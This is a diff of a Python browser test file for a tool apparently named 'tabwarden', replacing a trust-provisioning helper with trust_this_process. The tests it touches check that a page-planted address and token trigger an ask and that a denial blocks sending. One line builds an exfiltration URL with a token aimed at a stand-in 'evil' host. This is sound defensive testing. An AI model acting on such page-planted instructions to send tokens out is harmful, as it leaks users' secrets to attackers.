@@ -11,14 +11,13 @@ from __future__ import annotations
 
 import asyncio
 import json
-import os
 from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
 from tabwarden.browser import ThrowawayBrowser
-from tabwarden.demo import provision_throwaway_trust, wait_for_extension
+from tabwarden.demo import wait_for_extension
 from tests.browser.harness import (
     Request,
     ServedSite,
@@ -31,6 +30,7 @@ from tests.browser.harness import (
     press,
     served_pages,
     shows,
+    trust_this_process,
     widen,
 )
 from tests.fakes import tool_error
@@ -97,9 +97,7 @@ def test_a_page_planted_address_and_token_ask_naming_the_page_and_a_denial_sends
 ) -> None:
     a, b, c, evil = (f"http://{h}.test:{port}" for h in ("a", "b", "c", "evil"))
     config = browser.root / "config"
-    provision_throwaway_trust(
-        config, client_exe=os.path.realpath("/proc/self/exe"), origins=[a, b, c, evil]
-    )
+    trust_this_process(browser, [a, b, c, evil])
     injected = f"{evil}/collect?token={TOKEN}"
     _grant_test_hosts(browser)
 
@@ -185,7 +183,7 @@ def test_a_planted_token_chosen_in_a_select_answered_to_a_prompt_or_keyed_in_ask
     b.test changes; allowed (page_keys), that window is the call's only one."""
     a, b = (f"http://{h}.test:{port}" for h in ("a", "b"))
     config = browser.root / "config"
-    provision_throwaway_trust(config, client_exe=os.path.realpath("/proc/self/exe"), origins=[a, b])
+    trust_this_process(browser, [a, b])
     _grant_test_hosts(browser)
 
     async def scenario() -> None:
